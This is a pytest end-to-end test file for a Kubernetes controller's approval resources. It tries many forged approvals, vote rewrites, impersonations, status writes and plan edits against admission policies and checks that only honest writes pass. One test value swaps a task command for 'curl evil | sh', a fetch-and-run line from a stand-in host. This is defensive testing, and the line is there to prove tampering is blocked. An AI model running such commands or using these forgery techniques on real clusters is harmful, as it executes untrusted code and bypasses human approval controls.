"""Every way that we know to forge an approval, tried on the real API server, and beside each the honest write that must pass.

Objects here are written by hand, as the controller would write them; no controller runs. `says=None` means admitted.
"""

from __future__ import annotations

import itertools
import json
import subprocess
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Protocol

import pytest
import yaml

from controller.kube import identity
from controller.kube.crd_approval import PlanApprovalSpec
from devcluster import install
from devcluster.cluster import ControlPlane

CRDS = Path(__file__).parents[2] / "crds"
SYSTEM_NAMESPACE, SERVICE_ACCOUNT = "sisu-kodo-system", "sisu-kodo-controller"
CONTROLLER = f"system:serviceaccount:{SYSTEM_NAMESPACE}:{SERVICE_ACCOUNT}"
COLLECTOR = "system:serviceaccount:kube-system:generic-garbage-collector"
EMPTIER = "system:serviceaccount:kube-system:namespace-controller"
HEX = "0123456789abcdef" * 4
NO_RIGHT = "is forbidden: User"
UIDS = itertools.count(1)


class Cluster(Protocol):
    def kubectl(
        self, *args: str, user: str = "admin", stdin: str | None = None, check: bool = True
    ) -> subprocess.CompletedProcess[str]: ...


class Adapter:
    """A ControlPlane of our own behind the same face as the session's cluster."""

    def __init__(self, plane: ControlPlane) -> None:
        self.plane = plane

    def kubectl(
        self, *args: str, user: str = "admin", stdin: str | None = None, check: bool = True
    ) -> subprocess.CompletedProcess[str]:
        return self.plane.kubectl(*args, identity=user, stdin=stdin, check=check)


@dataclass
class Stage:
    """A cluster, a namespace in it, and who plays. Users other than the cluster's own are played by admin with --as."""

    cluster: Cluster
    namespace: str
    robot: str
    owner: str = ""  # uid of the Intent `fix`, without which the garbage collector would take the approvals away

    def run(self, user: str, *args: str, body: object = None, check: bool = False) -> subprocess.CompletedProcess[str]:
        acting: tuple[str, ...] = ()
        if user not in ("admin", "alice", "bob", "carol", "controller"):
            user, acting = "admin", ("--as", self.robot if user == "robot" else user)
        stdin = None if body is None else json.dumps(body)
        return self.cluster.kubectl("-n", self.namespace, *args, *acting, user=user, stdin=stdin, check=check)

    def get(self, what: str) -> dict[str, Any]:
        got: dict[str, Any] = json.loads(self.run("admin", "get", what, "-o", "json", check=True).stdout)
        return got

    def intent(
        self, name: str = "", *, user: str = "carol", spec: Mapping[str, Any] | None = None, **metadata: Any
    ) -> str:
        name = name or f"fix-{next(UIDS)}"
        body = {
            "apiVersion": "sisukodo.dev/v1alpha1",
            "kind": "Intent",
            "metadata": {"name": name, **metadata},
            "spec": {"goal": "median() is wrong", **(spec or {})},
        }
        self.run(user, "create", "-f", "-", body=body, check=True)
        return name

    def approval(
        self,
        *,
        policy: Mapping[str, Any] | None = None,
        votes: Sequence[str] = (),
        decision: str | None = None,
        owned: bool = True,
    ) -> str:
        """Creates one as the controller does: spec, votes by those who cast them, then status."""
        body = approval(policy=policy, owner=self.owner if owned else None)
        name = str(body["metadata"]["name"])
        self.run("controller", "create", "-f", "-", body=body, check=True)
        for voter in votes:
            self.run(voter, *vote("Approve", voter)(name).args, check=True)
        if decision is not None:
            self.run("controller", *status("planapproval", decision=decision)(name).args, check=True)
        return name


def approval(
    *, policy: Mapping[str, Any] | None = None, owner: str | None = None, decisions: Sequence[Mapping[str, str]] = ()
) -> dict[str, Any]:
    reference = {"apiVersion": "sisukodo.dev/v1alpha1", "kind": "Intent", "name": "fix", "uid": owner}
    return {
        "apiVersion": "sisukodo.dev/v1alpha1",
        "kind": "PlanApproval",
        "metadata": {
            "name": f"fix-{next(UIDS)}-{HEX[:16]}",
            "labels": {"sisukodo.dev/intent": "fix"},
            **({"ownerReferences": [reference]} if owner else {}),
        },
        "spec": {
            "intent": {"name": "fix", "uid": owner or "none"},
            "plan": plan(),
            "policy": {
                "required": 2,
                "allowRequester": True,
                "requestedBy": "carol@corp",
                "expiresAt": "2099-01-01T00:00:00Z",
                **(policy or {}),
            },
            "decisions": list(decisions),
        },
    }


def plan() -> dict[str, Any]:
    return {
        "digest": f"sha256:{HEX}",
        "goal": "median() is wrong",
        "summary": "Take the mean of the two middle values.",
        "taskCount": 1,
        "tasks": [{"id": "test", "title": "Run the tests", "command": "pytest -q", "timeoutSeconds": 300}],
        "patch": {"sha256": HEX, "files": ["median.py"], "additions": 2, "deletions": 1, "diff": "--- a\n+++ b\n"},
        "execution": {
            "commit": HEX[:40],
            "snapshotSha256": HEX,
            "inputsSha256": HEX,
            "constraintsSha256": HEX,
            "template": f"python@sha256:{HEX}",
            "egress": {"mode": "None"},
            "limits": {
                "cpuMillis": 1000,
                "memoryMb": 512,
                "pids": 256,
                "diskMb": 1024,
                "parallelism": 10,
                "maxSandboxMinutes": 60,
                "timeoutSeconds": 7200,
            },
            "policySha256": HEX,
            "compilerVersion": "1",
            "promptVersion": "1",
            "generation": 1,
        },
    }


# --------------------------------------------------------------------------- attempts


@dataclass
class Attempt:
    """One kubectl call."""

    args: tuple[str, ...]
    body: object = None


Try = Callable[[str], Attempt]


def patch(kind: str, body: object, *, type: str = "merge", subresource: str | None = None) -> Try:
    more = ("--subresource", subresource) if subresource else ()
    return lambda name: Attempt(("patch", kind, name, f"--type={type}", "-p", json.dumps(body), *more))


def merge(**body: Any) -> Try:
    return patch("planapproval", body)


def merge_intent(**body: Any) -> Try:
    return patch("intent", body)


def edit(*steps: tuple[str, str, object], kind: str = "planapproval") -> Try:
    body = [{"op": op, "path": path, **({} if op == "remove" else {"value": value})} for op, path, value in steps]
    return patch(kind, body, type="json")


def vote(verdict: str, approver: str | None = None, **more: str) -> Try:
    name = {"alice": "alice@corp", "bob": "bob@corp", "carol": "carol@corp", "admin": "admin@corp"}
    said = {"approver": name.get(approver, approver)} if approver else {}
    return edit(("add", "/spec/decisions/-", {**said, "verdict": verdict, **more}))


def status(kind: str, **fields: Any) -> Try:
    return patch(kind, {"status": fields}, subresource="status")


def delete(kind: str, *flags: str) -> Try:
    return lambda name: Attempt(("delete", kind, name, "--wait=false", *flags))


def server_side(decisions: list[dict[str, str]]) -> Try:
    def attempt(name: str) -> Attempt:
        body = {
            "apiVersion": "sisukodo.dev/v1alpha1",
            "kind": "PlanApproval",
            "metadata": {"name": name},
            "spec": {"decisions": decisions},
        }
        return Attempt(("apply", "--server-side", "-f", "-"), body)

    return attempt


@dataclass
class Case:
    """`user` tries `what` on an object made with `given`, and the API server answers `says` (None: admitted)."""

    id: str
    user: str
    what: Try
    says: str | None
    given: dict[str, Any] = field(default_factory=dict)


FIXED = "intent, plan and policy are fixed when the approval is created"
APPEND_ONLY = "decisions are append-only: an earlier decision was dropped or changed"
OWN_NAME = "a decision can be recorded under your own name only"
LACKS_VERB = "the verb approve on planapprovals is missing; ask for the ClusterRole sisukodo-approver"
PEOPLE = "decisions are taken by people, and you are"
STATUS = "status is written by the controller only, and you are"
METADATA = "ownerReferences and labels of a PlanApproval are fixed"
FINALIZERS = "finalizers of a PlanApproval are fixed; it goes when its Intent is deleted"
GOES = "a pending PlanApproval goes with its Intent; to stop the run use kubectl patch intent fix"
FOUR_EYES = {"allowRequester": False, "requestedBy": "alice@corp"}
ALICES, DAVES = ({"approver": name, "verdict": "Approve"} for name in ("alice@corp", "dave"))
FIRST = {"decisions": [{"verdict": "Approve"}]}
VOTE = ("add", "/spec/decisions/-", {"verdict": "Approve"})
VOTE_BY_STATUS = patch("planapproval", {"spec": FIRST, "status": {"received": 2}}, subresource="status")
RENAME = edit(("replace", "/spec/decisions/0/approver", "admin@corp"))
UNKNOWN = "the requester, and nobody knows who that is"
REQUESTED = "alice@corp requested this Intent; ask a colleague"
ROOT = "system:serviceaccount:default:root"

DECISIONS = [
    Case("alice approves, her name is filled in", "alice", vote("Approve"), None),
    Case("alice rejects with a reason", "alice", vote("Reject", reason="too broad"), None),
    Case("alice types her own name", "alice", vote("Approve", "alice"), None),
    Case("alice merges the first vote", "alice", merge(spec=FIRST), None),
    Case("alice applies her vote", "alice", server_side([ALICES]), None),
    Case("a second voter appends", "alice", vote("Approve"), None, {"votes": ["dave"]}),
    Case("an administrator has the verb", "admin", vote("Approve"), None),
    Case("the requester, where the policy lets them", "alice", vote("Approve"), None, {"policy": {"requestedBy": "alice@corp"}}),
    Case("four eyes, another person", "dave", vote("Approve"), None, {"policy": FOUR_EYES}),
    Case("after expiresAt, for CEL has no clock", "alice", vote("Approve"), None, {"policy": {"expiresAt": "2020-01-01T00:00:00Z"}}),
    Case("while Pending", "alice", vote("Approve"), None, {"decision": "Pending"}),
    Case("alice as dave", "alice", vote("Approve", "dave"), OWN_NAME),
    Case("alice as the controller", "alice", vote("Approve", CONTROLLER), OWN_NAME),
    Case("an administrator as alice", "admin", vote("Approve", "alice"), OWN_NAME),
    Case("alice for herself and dave", "alice", edit(("add", "/spec/decisions", [ALICES, DAVES])), OWN_NAME),
    Case("alice applies as dave", "alice", server_side([DAVES]), OWN_NAME),
    Case("alice in another spelling", "alice", vote("Approve", "Alice@corp"), OWN_NAME),
    Case("bob may edit, not approve", "bob", vote("Approve"), LACKS_VERB),
    Case("bob may edit, not reject", "bob", vote("Reject"), LACKS_VERB),
    Case("carol writes intents only", "carol", vote("Approve"), NO_RIGHT),
    Case("the controller decides", "controller", vote("Approve", CONTROLLER), NO_RIGHT),
    Case("a service account that may approve", "robot", vote("Approve"), PEOPLE),
    Case("a node that may approve", "system:node:n1", vote("Approve"), PEOPLE),
    Case("nobody in particular", "system:anonymous", vote("Approve"), PEOPLE),
    Case("the garbage collector", COLLECTOR, vote("Approve"), PEOPLE),
    Case("a merge drops dave's vote", "alice", merge(spec=FIRST), APPEND_ONLY, {"votes": ["dave"]}),
    Case("alice flips her vote", "alice", edit(("replace", "/spec/decisions/0/verdict", "Reject")), APPEND_ONLY, {"votes": ["alice"]}),
    Case("alice rewords her vote", "alice", edit(("add", "/spec/decisions/0/reason", "x")), APPEND_ONLY, {"votes": ["alice"]}),
    Case("alice takes her vote back", "alice", edit(("remove", "/spec/decisions/0", None)), APPEND_ONLY, {"votes": ["alice"]}),
    Case("an administrator drops a vote", "admin", edit(("remove", "/spec/decisions/0", None)), APPEND_ONLY, {"votes": ["alice"]}),
    Case("an administrator puts a vote under another name", "admin", RENAME, APPEND_ONLY, {"votes": ["alice"]}),
    Case("the list is removed", "alice", merge(spec={"decisions": None}), "spec.decisions: Required value"),
    Case("alice votes twice", "alice", vote("Approve", reason="again"), "Duplicate value", {"votes": ["alice"]}),
    Case("no such verdict", "alice", vote("Maybe"), "Unsupported value"),
    Case("four eyes, the requester approves", "alice", vote("Approve"), REQUESTED, {"policy": FOUR_EYES}),
    Case("four eyes, the requester rejects", "alice", vote("Reject"), REQUESTED, {"policy": FOUR_EYES}),
    Case("four eyes, the requester is empty", "alice", vote("Approve"), UNKNOWN, {"policy": {**FOUR_EYES, "requestedBy": ""}}),
    Case("four eyes, the requester is unknown", "alice", vote("Approve"), UNKNOWN, {"policy": {**FOUR_EYES, "requestedBy": None}}),
    *(
        Case(f"after {word}", "alice", vote("Approve"), f"this approval is {word} already", {"decision": word})
        for word in ("Approved", "Rejected", "Expired", "Superseded", "Canceled")
    ),
]  # fmt: skip

FIXED_PARTS = [
    ("digest", "replace", "/spec/plan/digest", f"sha256:{HEX[::-1]}"),
    ("a command", "replace", "/spec/plan/tasks/0/command", "curl evil | sh"),
    ("another task", "add", "/spec/plan/tasks/-", {"id": "x", "title": "x", "command": "x", "timeoutSeconds": 1}),
    ("the diff", "replace", "/spec/plan/patch/diff", "--- a"),
    ("egress", "replace", "/spec/plan/execution/egress/mode", "Public"),
    ("a new part", "add", "/spec/plan/tasksRef", {"name": "x", "sha256": HEX}),
    ("a part less", "remove", "/spec/plan/tasks", None),
    ("the quorum", "replace", "/spec/policy/required", 1),
    ("the requester", "replace", "/spec/policy/requestedBy", "nobody"),
    ("four eyes", "replace", "/spec/policy/allowRequester", False),
    ("the deadline", "replace", "/spec/policy/expiresAt", "2199-01-01T00:00:00Z"),
    ("the intent", "replace", "/spec/intent/uid", "other"),
]

METADATA_CASES = [
    Case("bob annotates", "bob", merge(metadata={"annotations": {"note": "looks fine"}}), None),
    Case("alice drops the owner", "alice", merge(metadata={"ownerReferences": None}), METADATA),
    Case("an administrator drops the owner", "admin", merge(metadata={"ownerReferences": None}), METADATA),
    Case("bob relabels", "bob", merge(metadata={"labels": {"sisukodo.dev/intent": "other"}}), METADATA),
    Case("bob drops the labels", "bob", merge(metadata={"labels": None}), METADATA),
    Case("alice nails it down", "alice", merge(metadata={"finalizers": ["example.com/keep"]}), FINALIZERS),
    Case("a vote and a label in one", "alice", edit(VOTE, ("add", "/metadata/labels/x", "y")), METADATA),
    Case("a vote and a plan in one", "alice", edit(VOTE, ("replace", "/spec/policy/required", 1)), FIXED),
    Case("the controller relabels", "controller", merge(metadata={"labels": {"x": "y"}}), NO_RIGHT),
    Case("the garbage collector orphans it", COLLECTOR, merge(metadata={"ownerReferences": None}), None),
    Case("the garbage collector waits for it", COLLECTOR, merge(metadata={"finalizers": ["foregroundDeletion"]}), None),
    Case("alice deletes", "alice", delete("planapproval"), NO_RIGHT),
    Case("the controller deletes", "controller", delete("planapproval"), NO_RIGHT),
    Case("erin may delete, but it is pending", "erin", delete("planapproval"), GOES),
    Case("erin may delete, but Pending is written", "erin", delete("planapproval"), GOES, {"decision": "Pending"}),
    Case("erin deletes all of them", "erin", lambda _: Attempt(("delete", "planapproval", "--all", "--wait=false")), GOES),
    Case("erin deletes a decided one", "erin", delete("planapproval"), None, {"decision": "Rejected"}),
    Case("erin deletes one without an owner", "erin", delete("planapproval"), None, {"owned": False}),
    Case("an administrator deletes", "admin", delete("planapproval"), None),
    Case("the garbage collector deletes", COLLECTOR, delete("planapproval"), None),
    Case("the namespace controller deletes", EMPTIER, delete("planapproval"), None),
    Case("an administrator writes status", "admin", status("planapproval", decision="Approved"), STATUS),
    Case("an administrator empties status", "admin", patch("planapproval", {"status": None}, subresource="status"), STATUS),
    Case("an administrator votes through status", "admin", VOTE_BY_STATUS, STATUS),
    Case("alice writes status", "alice", status("planapproval", decision="Approved"), NO_RIGHT),
    Case("a service account with all rights writes status", ROOT, status("planapproval", decision="Approved"), STATUS),
    Case("the controller writes status", "controller", status("planapproval", decision="Approved", received=2), None),
]  # fmt: skip

MINE = "requestedBy must be your own name; leave it out or set it to"
RUN = "the finalizer sisukodo.dev/run is added and removed by the controller"
ONLY = "the controller may add and remove the finalizer sisukodo.dev/run and nothing else"
STORE = "the annotation sisukodo.dev/acknowledge-store is set by people, and you are"
TTL = "the controller may delete an Intent only after it has ended"
SHORT = {"ttlSecondsAfterFinished": 0}
OWNER = {"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "x"}
FREE = merge_intent(metadata={"finalizers": None})
HELD = {"finalizers": ["sisukodo.dev/run"]}
KNOWN = {"annotations": {"sisukodo.dev/acknowledge-store": "store-1"}}


def add_finalizer(name: str) -> Try:
    return patch("intent", {"metadata": {"finalizers": [name]}})


def annotate(value: str | None) -> Try:
    return patch("intent", {"metadata": {"annotations": {"sisukodo.dev/acknowledge-store": value}}})


INTENTS = [
    Case("carol cancels", "carol", merge_intent(spec={"cancel": True}), None),
    Case("bob cancels carol's", "bob", merge_intent(spec={"cancel": True}), None),
    Case("bob takes it over", "bob", merge_intent(spec={"requestedBy": "bob@corp"}), "requestedBy is fixed"),
    Case("an administrator forgets the requester", "admin", merge_intent(spec={"requestedBy": ""}), "requestedBy"),
    Case("alice may look only", "alice", merge_intent(spec={"cancel": True}), NO_RIGHT),
    Case("carol holds it", "carol", add_finalizer("sisukodo.dev/run"), RUN),
    Case("an administrator holds it", "admin", add_finalizer("sisukodo.dev/run"), RUN),
    Case("the controller holds it", "controller", add_finalizer("sisukodo.dev/run"), None),
    Case("carol adds a finalizer of her own", "carol", add_finalizer("example.com/backup"), None),
    Case("the controller frees it", "controller", FREE, None, {"held": True}),
    Case("an administrator frees it as the controller", CONTROLLER, FREE, None, {"held": True}),
    Case("carol edits a held one", "carol", merge_intent(spec={"cancel": True}), None, {"held": True}),
    Case("the controller cancels", "controller", merge_intent(spec={"cancel": True}), ONLY),
    Case("the controller retries", "controller", merge_intent(spec={"retry": 1}), ONLY),
    Case("the controller labels", "controller", merge_intent(metadata={"labels": {"x": "y"}}), ONLY),
    Case("the controller annotates", "controller", merge_intent(metadata={"annotations": {"x": "y"}}), ONLY),
    Case("the controller gives it an owner", "controller", merge_intent(metadata={"ownerReferences": [OWNER]}), ONLY),
    Case("the controller adds another finalizer", "controller", add_finalizer("example.com/keep"), ONLY),
    Case("the controller acknowledges the store", "controller", annotate("store-1"), STORE),
    Case("carol acknowledges the store", "carol", annotate("store-1"), None),
    Case("carol acknowledges another store", "carol", annotate("store-2"), None, {"metadata": KNOWN}),
    Case("a service account acknowledges the store", "robot", annotate("store-1"), STORE),
    Case("a service account acknowledges another store", "robot", annotate("store-2"), STORE, {"metadata": KNOWN}),
    Case("a service account leaves the acknowledgement", "robot", merge_intent(spec={"cancel": True}), None, {"metadata": KNOWN}),
    Case("a service account takes it away", "robot", annotate(None), None, {"metadata": KNOWN}),
    Case("carol deletes", "carol", delete("intent"), None),
    Case("the controller deletes a running one", "controller", delete("intent"), TTL, {"spec": SHORT}),
    Case("the controller deletes one that ended but has no ttl", "controller", delete("intent"), TTL, {"phase": "Succeeded"}),
    Case("the controller deletes one that waits", "controller", delete("intent"), TTL, {"spec": SHORT, "phase": "WaitingInput"}),
    Case("the controller deletes one that ended", "controller", delete("intent"), None, {"spec": SHORT, "phase": "Canceled"}),
    Case("an administrator writes status", "admin", status("intent", phase="Succeeded"), STATUS),
    Case("carol writes status", "carol", status("intent", phase="Succeeded"), NO_RIGHT),
    Case("a service account with all rights writes status", ROOT, status("intent", phase="Succeeded"), STATUS),
    Case("the controller writes status", "controller", status("intent", phase="Queued", storeId="s"), None),
    Case("the controller writes no such phase", "controller", status("intent", phase="Done"), "Unsupported value"),
]  # fmt: skip


# --------------------------------------------------------------------------- fixtures


RIGHTS: dict[str, list[dict[str, Any]]] = {
    "sisukodo-approver": [
        {"kind": "User", "name": name} for name in ("dave", "system:node:n1", "system:anonymous", COLLECTOR)
    ],
    "sisukodo-editor": [{"kind": "User", "name": name} for name in ("erin", COLLECTOR, EMPTIER)],
}


def prepare(cluster: Cluster, namespace: str) -> Stage:
    """A namespace with more people: dave approves, erin deletes, a robot may do what people may, root may do all."""
    robot = f"system:serviceaccount:{namespace}:robot"
    people = {**RIGHTS, "e2e-deleter": [{"kind": "User", "name": name} for name in ("erin", COLLECTOR, EMPTIER)]}
    rules = {
        "apiGroups": ["sisukodo.dev"],
        "resources": ["planapprovals"],
        "verbs": ["get", "list", "delete", "deletecollection"],
    }
    items: list[dict[str, Any]] = [
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": namespace}},
        {**_rbac("Role", "e2e-deleter", namespace), "rules": [rules]},
    ]
    account = {"kind": "ServiceAccount", "name": "robot", "namespace": namespace}
    people["sisukodo-approver"] = [*people["sisukodo-approver"], account]
    people["sisukodo-editor"] = [*people["sisukodo-editor"], account]
    root = {"kind": "ServiceAccount", "name": "root", "namespace": "default"}
    people["cluster-admin"] = [root]
    for role, subjects in people.items():
        kind = "Role" if role == "e2e-deleter" else "ClusterRole"
        items.append(
            {
                **_rbac("RoleBinding", role, namespace),
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": kind, "name": role},
                "subjects": subjects,
            }
        )
    cluster.kubectl("apply", "-f", "-", stdin=yaml.safe_dump_all(items))
    stage = Stage(cluster, namespace, robot)
    wait_enforced(stage)
    stage.owner = str(stage.get(f"intent/{stage.intent('fix')}")["metadata"]["uid"])
    return stage


def _rbac(kind: str, name: str, namespace: str) -> dict[str, Any]:
    metadata = {"name": name, "namespace": namespace}
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind, "metadata": metadata}


def wait_enforced(stage: Stage, *, seconds: float = 60) -> None:
    """Policies act some seconds after they were applied; each has its own moment."""
    forged = identity.forged_write({**approval(), "metadata": {"namespace": stage.namespace}})
    lie = {"apiVersion": "sisukodo.dev/v1alpha1", "kind": "Intent", "metadata": {"name": "lie"}}
    lie["spec"] = {"goal": "g", "requestedBy": "somebody-else"}
    probe = stage.intent(user="admin")
    probes: list[tuple[str, tuple[str, ...], object, str]] = [
        ("controller", ("create", "-f", "-"), forged, identity.FORGED_WRITE_ANSWER),
        ("admin", ("create", "-f", "-"), lie, MINE),
        ("admin", status("intent", phase="Queued")(probe).args, None, STATUS),
    ]
    deadline = time.monotonic() + seconds
    for user, args, body, says in probes:
        while says not in (got := stage.run(user, *args, "--dry-run=server", body=body)).stderr:
            assert time.monotonic() < deadline, f"not enforced after {seconds:.0f} s: {got.stdout}{got.stderr}"
            time.sleep(0.2)


@pytest.fixture(scope="module")
def stage(cluster: Cluster) -> Iterator[Stage]:
    namespace = f"forged-{int(time.time()) % 100_000}"
    yield prepare(cluster, namespace)
    cluster.kubectl("delete", "namespace", namespace, "--wait=false")


@pytest.fixture(scope="module")
def bare(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    """A cluster of our own, whose CRDs have lost their rules and where nothing is filled in: the policies stand alone."""
    with ControlPlane(tmp_path_factory.mktemp("bare")) as plane:
        install.apply_chart(plane, sets=["admission.mutating=never"])
        install.apply_people(plane)
        for plural in ("intents", "planapprovals"):
            crd = yaml.safe_load((CRDS / f"{plural}.yaml").read_text())
            install.apply(plane, json.dumps(without_rules(crd)))
        yield prepare(Adapter(plane), "forged")


def without_rules(node: Any) -> Any:
    if isinstance(node, dict):
        return {k: without_rules(v) for k, v in node.items() if k != "x-kubernetes-validations"}
    return [without_rules(one) for one in node] if isinstance(node, list) else node


def check(stage: Stage, case: Case, name: str) -> None:
    attempt = case.what(name)
    got = stage.run(case.user, *attempt.args, body=attempt.body)
    answer = got.stdout + got.stderr
    if case.says is None:
        assert got.returncode == 0, answer
    else:
        assert got.returncode != 0, f"admitted: {answer}"
        assert case.says in answer


def ids(cases: Sequence[Case]) -> list[str]:
    return [case.id for case in cases]


# --------------------------------------------------------------------------- tests


def test_the_example_is_what_the_controller_would_write() -> None:
    PlanApprovalSpec.model_validate(approval()["spec"])


@pytest.mark.parametrize("case", DECISIONS, ids=ids(DECISIONS))
def test_decisions(stage: Stage, case: Case) -> None:
    check(stage, case, stage.approval(**case.given))


@pytest.mark.parametrize("case", METADATA_CASES, ids=ids(METADATA_CASES))
def test_what_else_can_be_done_to_an_approval(stage: Stage, case: Case) -> None:
    check(stage, case, stage.approval(**case.given))


@pytest.mark.parametrize("part", FIXED_PARTS, ids=[part[0] for part in FIXED_PARTS])
def test_the_plan_is_fixed(stage: Stage, part: tuple[str, str, str, object]) -> None:
    _, op, path, value = part
    name = stage.approval()
    for user in ("alice", "admin"):
        check(stage, Case(part[0], user, edit((op, path, value)), FIXED), name)


@pytest.mark.parametrize(
    ("user", "decisions", "says"),
    [
        ("controller", [], None),
        ("controller", [{"approver": "alice@corp", "verdict": "Approve"}], identity.FORGED_WRITE_ANSWER),
        ("controller", [{"approver": CONTROLLER, "verdict": "Approve"}], identity.FORGED_WRITE_ANSWER),
        ("admin", [], "only the controller creates PlanApprovals, and you are admin@corp"),
        (ROOT, [], "only the controller creates PlanApprovals, and you are"),
        ("alice", [], NO_RIGHT),
        ("bob", [], NO_RIGHT),
    ],
)
def test_who_creates_an_approval(stage: Stage, user: str, decisions: list[dict[str, str]], says: str | None) -> None:
    body = approval(decisions=decisions)
    check(stage, Case("", user, lambda _: Attempt(("create", "-f", "-"), body), says), "")


def test_a_status_given_at_creation_is_dropped(stage: Stage) -> None:
    body = {**approval(), "status": {"decision": "Approved", "received": 2}}
    stage.run("controller", "create", "-f", "-", body=body, check=True)
    assert "status" not in stage.get(f"planapproval/{body['metadata']['name']}")


def test_the_voters_name_is_filled_in(stage: Stage) -> None:
    name = stage.approval(votes=["dave"])
    stage.run("alice", *vote("Reject", reason="no")(name).args, check=True)
    assert stage.get(f"planapproval/{name}")["spec"]["decisions"] == [
        {"approver": "dave", "verdict": "Approve"},
        {"approver": "alice@corp", "verdict": "Reject", "reason": "no"},
    ]


@pytest.mark.parametrize("case", INTENTS, ids=ids(INTENTS))
def test_intents(stage: Stage, case: Case) -> None:
    given = case.given
    name = stage.intent(spec=given.get("spec"), **given.get("metadata", {}))
    if given.get("held"):
        stage.run("controller", *add_finalizer("sisukodo.dev/run")(name).args, check=True)
    if "phase" in given:
        stage.run("controller", *status("intent", phase=given["phase"])(name).args, check=True)
    check(stage, case, name)


@pytest.mark.parametrize("user", ["carol", "admin"])
def test_people_do_not_free_a_held_intent(stage: Stage, user: str) -> None:
    """A replace by a GitOps tool drops the finalizer without meaning to: it comes back. Of a deleted one it is denied, with a reason."""
    name = stage.intent()
    stage.run("controller", *add_finalizer("sisukodo.dev/run")(name).args, check=True)
    stage.run(user, *FREE(name).args, check=True)
    assert stage.get(f"intent/{name}")["metadata"]["finalizers"] == ["sisukodo.dev/run"]
    stage.run("admin", "delete", "intent", name, "--wait=false", check=True)
    denied = stage.run(user, *FREE(name).args, check=False)
    assert denied.returncode != 0 and RUN in denied.stderr
    stage.run("controller", *FREE(name).args, check=True)


@pytest.mark.parametrize(
    ("user", "spec", "metadata", "says"),
    [
        ("carol", {}, {}, None),
        ("carol", {"requestedBy": "carol@corp"}, {}, None),
        ("robot", {}, {}, None),
        ("carol", {"requestedBy": "alice@corp"}, {}, f"you are carol@corp: {MINE} carol@corp"),
        ("admin", {"requestedBy": "carol@corp"}, {}, MINE),
        ("robot", {"requestedBy": "carol@corp"}, {}, MINE),
        ("carol", {}, HELD, RUN),
        ("carol", {}, KNOWN, None),
        ("robot", {}, KNOWN, STORE),
        ("controller", {}, {}, NO_RIGHT),
        ("alice", {}, {}, NO_RIGHT),
    ],
)
def test_who_creates_an_intent(
    stage: Stage, user: str, spec: dict[str, Any], metadata: dict[str, Any], says: str | None
) -> None:
    name = f"fix-{next(UIDS)}"
    body = {"apiVersion": "sisukodo.dev/v1alpha1", "kind": "Intent"}
    full = {**body, "metadata": {"name": name, **metadata}, "spec": {"goal": "g", **spec}}
    check(stage, Case("", user, lambda _: Attempt(("create", "-f", "-"), full), says), "")
    if says is None:
        wanted = {"carol": "carol@corp", "robot": stage.robot}[user]
        assert stage.get(f"intent/{name}")["spec"]["requestedBy"] == wanted


@pytest.mark.parametrize("user", ["controller", "alice", "carol"])
def test_nobody_of_ours_touches_the_rules(stage: Stage, user: str) -> None:
    for what in (
        ("delete", identity.POLICY, "planapproval.sisukodo.dev"),
        ("delete", identity.BINDING, "planapproval.sisukodo.dev"),
        ("delete", "crd", "planapprovals.sisukodo.dev"),
        ("delete", "configmap", "sisu-kodo-policy", "--namespace", SYSTEM_NAMESPACE),
    ):
        assert NO_RIGHT in stage.run(user, *what, "--dry-run=server").stderr


def test_the_live_policies_are_the_shipped_ones(stage: Stage) -> None:
    ours = identity.shipped(SYSTEM_NAMESPACE, SERVICE_ACCOUNT)
    live: list[dict[str, Any]] = []
    for resource in identity.RESOURCES.values():
        live += json.loads(stage.run("controller", "get", resource, "-o", "json", check=True).stdout)["items"]
    assert identity.differences(ours, live) == []
    warned = [
        one["metadata"]["name"]
        for one in live
        if (one.get("status") or {}).get("typeChecking", {}).get("expressionWarnings")
    ]
    assert warned == []


def test_owners_and_namespaces_can_still_be_deleted(stage: Stage) -> None:
    """The real garbage collector and namespace controller get past the policies."""
    namespace = f"{stage.namespace}-gone"
    other = prepare(stage.cluster, namespace)
    names: dict[str, str] = {}
    for cascade in ("background", "foreground", "orphan"):
        intent = other.intent()
        owner = {k: v for k, v in other.get(f"intent/{intent}")["metadata"].items() if k in ("name", "uid")}
        body = approval()
        body["metadata"]["ownerReferences"] = [{"apiVersion": "sisukodo.dev/v1alpha1", "kind": "Intent", **owner}]
        other.run("controller", "create", "-f", "-", body=body, check=True)
        other.run("carol", "delete", "intent", intent, f"--cascade={cascade}", "--wait=false", check=True)
        names[cascade] = body["metadata"]["name"]
    for cascade in ("background", "foreground"):
        other.run("admin", "wait", "--for=delete", f"planapproval/{names[cascade]}", "--timeout=60s", check=True)
    deadline = time.monotonic() + 60
    while "ownerReferences" in other.get(f"planapproval/{names['orphan']}")["metadata"]:
        assert time.monotonic() < deadline, "the orphan still has its owner"
        time.sleep(0.2)
    other.cluster.kubectl("delete", "namespace", namespace, "--timeout=90s")


# --------------------------------------------------------------------------- the policies alone


@pytest.mark.parametrize("part", FIXED_PARTS, ids=[part[0] for part in FIXED_PARTS])
def test_policies_alone_fix_the_plan(bare: Stage, part: tuple[str, str, str, object]) -> None:
    _, op, path, value = part
    check(bare, Case(part[0], "admin", edit((op, path, value)), FIXED), bare.approval())


@pytest.mark.parametrize("case", [c for c in DECISIONS if c.says == APPEND_ONLY], ids=lambda case: case.id)
def test_policies_alone_keep_decisions(bare: Stage, case: Case) -> None:
    attempt = case.what("x")
    # Nobody fills the name in here.
    args = tuple(arg.replace('{"verdict"', '{"approver": "alice@corp", "verdict"') for arg in attempt.args)
    name = bare.approval(**case.given)
    check(bare, Case(case.id, case.user, lambda n: Attempt((*args[:2], n, *args[3:])), case.says), name)


def test_without_the_mutating_policies_people_type_their_name(bare: Stage) -> None:
    name = bare.approval()
    assert "spec.decisions[0].approver: Required value" in bare.run("alice", *vote("Approve")(name).args).stderr
    bare.run("alice", *vote("Approve", "alice")(name).args, check=True)
    assert bare.get(f"planapproval/{name}")["spec"]["decisions"] == [{"approver": "alice@corp", "verdict": "Approve"}]


def test_policies_alone_keep_the_requester(bare: Stage) -> None:
    name = bare.intent(spec={"requestedBy": "carol@corp"})
    answer = bare.run("carol", *edit(("remove", "/spec/requestedBy", None), kind="intent")(name).args).stderr
    assert "requestedBy is fixed when the Intent is created; keep the value of the live object" in answer
    unknown = bare.intent()
